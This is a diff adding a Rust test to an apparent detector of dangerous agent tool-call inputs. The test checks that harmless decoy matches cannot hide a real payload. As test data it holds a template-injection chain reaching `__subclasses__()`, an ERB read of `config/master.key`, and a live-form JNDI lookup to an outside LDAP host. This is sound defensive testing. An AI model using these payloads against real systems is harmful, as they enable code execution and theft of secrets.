@@ -4549,3 +4549,28 @@ fn a_deny_rule_does_not_hide_a_metadata_fetch_after_it() {
     let legit = [("agent.configure", rules(deny))];
     acts_on_attacks_only(&attacks, &legit);
 }
+
+/// Harmless template matches before a dangerous one no longer hide it:
+/// a walk to `__subclasses__` after seventeen dunders named in a list (16
+/// bare matches were read), a Ruby read of `config/master.key` after five
+/// reads of public files in one ERB expression (4 reads of a call were
+/// read), and a live JNDI lookup after seventeen defanged ones (16 lookups
+/// were read) are flagged; the decoys alone are not.
+#[test]
+fn decoys_do_not_use_up_the_template_matches() {
+    let names = "__mro__, ".repeat(17);
+    let expr = |e: String| ("rules.evaluate", json!({ "expression": e }));
+    let walk = "''.__class__.__mro__[1].__subclasses__()";
+    acts_on_attacks_only(&[expr(walk.to_owned())], &[]);
+    acts_on_attacks_only(&[expr(format!("{names}{walk}"))], &[expr(format!("{names}__init__"))]);
+    let reads = "File.read('README.md'), ".repeat(5);
+    let erb = |e: String| ("template.render", json!({"engine": "erb", "template": format!("Notes: <%= [{e}].join %>")}));
+    let secret = "File.read('config/master.key')";
+    acts_on_attacks_only(&[erb(secret.to_owned())], &[]);
+    acts_on_attacks_only(&[erb(format!("{reads}{secret}"))], &[erb(format!("{reads}File.read('CHANGELOG.md')"))]);
+    let defanged = "${jndi:ldap://evil[.]example/a} ".repeat(17);
+    let log = |m: String| ("log.write", json!({ "message": m }));
+    let live = "${jndi:ldap://203.0.113.9/a}";
+    acts_on_attacks_only(&[log(live.to_owned())], &[]);
+    acts_on_attacks_only(&[log(format!("{defanged}{live}"))], &[log(format!("{defanged}seen in the proxy log"))]);
+}
